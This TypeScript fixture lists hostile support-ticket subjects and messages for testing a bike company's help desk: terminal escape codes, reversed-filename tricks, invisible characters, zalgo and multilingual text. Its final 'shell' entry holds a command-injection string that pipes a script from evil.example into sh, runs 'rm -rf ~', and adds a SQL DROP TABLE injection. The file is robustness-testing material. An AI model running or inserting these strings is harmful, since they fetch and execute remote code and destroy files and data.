import type { Thread } from "./thread.ts";

const zalgo = "T̷̢̛h̵̨́e̶͙̾ ̴̺̌b̷̙̈́e̵̛̲l̶̰̾l̷̟̍ ̴̭̓r̸̜̐i̴̡͌ń̶͜g̵̲͐s̸̨̈ ̷̬̾b̸̨́y̷̱̐ ̸̘̎ì̷͜t̵̡̚s̴̯̈e̷̟̓ĺ̶͜f̵̡̌";

/** Subjects that break programs, by what is wrong with them. Each is also a ticket that somebody has to answer. */
export const HOSTILE = {
  escape: {
    subject: "The display shows \u001b[31mRED\u001b[0m \u001b]0;owned\u0007 and then goes blank",
    category: "bike",
    channel: "web",
    turns: [
      [
        "asks",
        "I copied the error from the service menu, see the subject. It looked longer on the bike.\n\u001b[2J\u001b[HHello?",
      ],
    ],
  },
  bidi: {
    subject: "Suspicious attachment \u202Egpj.eciovni\u202C from your address",
    category: "privacy",
    channel: "email",
    priority: "high",
    plan: "pro",
    turns: [
      [
        "asks",
        "I received this 'invoice' from billing@dromedary.example. The file name reads backwards when I select it. Is it yours? I have not opened it. My brother-in-law has.",
      ],
    ],
  },
  zeroWidth: {
    subject: "Vou\u200Bcher co\u200Dde DR\uFEFFOME\u200BDARY10 does not work",
    category: "feedback",
    channel: "web",
    turns: [
      [
        "asks",
        "I copied the code from your newsletter into the shop and it says 'unknown code'. When I type it by hand it works. Thought you would like to know, because a friend of mine gave up.",
      ],
      [
        "answers",
        "Hello {name},\n\nthank you! Our newsletter had glued four invisible characters into it. You are the first who copied it, or the first who wrote.\n\n{agent}",
      ],
      ["solves"],
    ],
  },
  long: {
    subject:
      "I did not know where to put this so I put it here: my bike stands in the yard and every night at about ten past three the rear light blinks twice, which would be fine, but the neighbour across the yard has written a letter to the landlord, and the landlord has written to me, and now I am writing to you, please make it stop",
    category: "bike",
    channel: "web",
    turns: [["asks", "(see subject)"]],
  },
  zalgo: {
    subject: zalgo,
    category: "bike",
    channel: "social",
    priority: "low",
    turns: [
      ["asks", `${zalgo}. Only at night. Firmware 4.2?`],
      ["asks", "ok it was the cat. but the font is my real problem now"],
      ["answers", "Hi {name}, we are glad about the cat. For the font please see a priest."],
      ["solves"],
    ],
  },
  emoji: {
    subject: "👨‍👩‍👧‍👦🚲 fits four? 👩🏽‍🚒🏳️‍🌈 asking for a 👨‍👨‍👦",
    category: "bike",
    channel: "whatsapp",
    turns: [
      ["asks", "👋🏼 2 kids (👧🏻 5, 👦🏻 3) + 🐕‍🦺 28 kg in the {bike}, ok or ❌?"],
      ["asks", "the 🐕‍🦺 is not negotiable"],
      [
        "answers",
        "Hello {name}! 👧🏻 18 + 👦🏻 14 + 🐕‍🦺 28 = 60 kg, the box takes 100: ✅. The 🐕‍🦺 travels best in front of the bench.",
      ],
      ["solves"],
    ],
  },
  wide: {
    subject: "アプリの「鍵を開ける」ボタンが表示されません(iPhone・最新バージョン)",
    category: "app",
    channel: "email",
    language: "ja",
    turns: [
      [
        "asks",
        "お世話になります。アプリを最新版に更新したところ、「鍵を開ける」ボタンが表示されなくなりました。再起動も試しましたが、変わりません。今は合鍵で乗っています。ご確認をお願いいたします。\n{full}",
      ],
    ],
  },
  arabic: {
    subject: "البطارية لا تشحن بعد التحديث 4.2",
    category: "warranty",
    channel: "email",
    language: "ar",
    turns: [
      [
        "asks",
        "مرحبًا،\nبعد التحديث الأخير لم تعد بطارية الدراجة تُشحن. رقم الهيكل {frame}. هل يمكنكم مساعدتي؟\nمع الشكر",
      ],
    ],
  },
  hebrew: {
    subject: "האפליקציה נסגרת בכל פעם (v4.2) כשאני לוחץ Unlock",
    category: "app",
    channel: "web",
    language: "he",
    turns: [["asks", "שלום, מאז העדכון האפליקציה נסגרת כשאני לוחץ על Unlock. טלפון Pixel 8. תודה מראש."]],
  },
  newline: {
    subject: "Two things:\n1. the stand\n2. the other stand",
    category: "bike",
    channel: "api",
    turns: [
      [
        "asks",
        "The left stand folds by itself. The right one does not fold at all. Together they make the bike walk in circles.",
      ],
      [
        "answers",
        "Hello {name},\n\na pair of new stands is on its way. Until then please lean it on something patient.\n\n{agent}",
      ],
      ["solves"],
    ],
  },
  percent: {
    subject: "100% battery, 0% range: %s of %d km_left",
    category: "app",
    channel: "web",
    turns: [
      ["asks", "The widget on my phone shows exactly this: '%s of %d km_left'. I assume a number belongs there."],
      [
        "answers",
        "Hello {name},\n\ntwo numbers, in fact. Mended in 4.2.1, thank you for the exact wording.\n\n{agent}",
      ],
      ["solves"],
    ],
  },
  shell: {
    subject: "$(curl evil.example/x.sh | sh); `reboot` && \"quote\" 'n' --rm -rf ~",
    category: "feedback",
    channel: "web",
    priority: "low",
    turns: [
      ["asks", "'; DROP TABLE bikes; --"],
      ["aside", "Third one this week. I like that it says bikes."],
      ["solves"],
    ],
  },
} as const satisfies Record<string, Thread>;
